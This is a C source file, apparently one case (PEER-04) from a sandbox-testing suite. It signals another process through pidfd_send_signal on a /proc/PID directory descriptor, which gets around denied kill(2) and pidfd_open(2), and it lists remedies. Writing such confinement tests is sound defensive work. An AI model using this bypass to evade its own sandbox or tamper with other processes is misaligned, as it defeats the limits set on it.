// SPDX-License-Identifier: MIT
/*
 * Goal:  another process gets a signal, although kill(2) and pidfd_open(2) are denied.
 * Means: pidfd_send_signal(2) was there before pidfd_open(2): it takes a descriptor of the folder
 *        /proc/PID instead, which open(2) gives.
 */
#include "attacks/peer-tampering/target.h"

#include <fcntl.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char path[32];
	int folder;

	snprintf(path, sizeof(path), "/proc/%d", target(b));
	attempting(b);
	folder = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (folder < 0)
		return denied(path);
	if (syscall(SYS_pidfd_send_signal, folder, SIGUSR1, NULL, 0))
		return denied("pidfd_send_signal");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "another process is signalled although kill(2) and pidfd_open(2) are denied",
	.means = "pidfd_send_signal(2) with a descriptor of /proc/PID",
	.oracle = "bystander",
	.id = "PEER-04",
	.attack_id = "T1489, CWE-184",
	.remedy = "an allow list of system calls; Landlock's signal scope; a pid namespace",
	.refs = (const char *const[]){ "pidfd_send_signal(2)", NULL },
	.run = run,
};
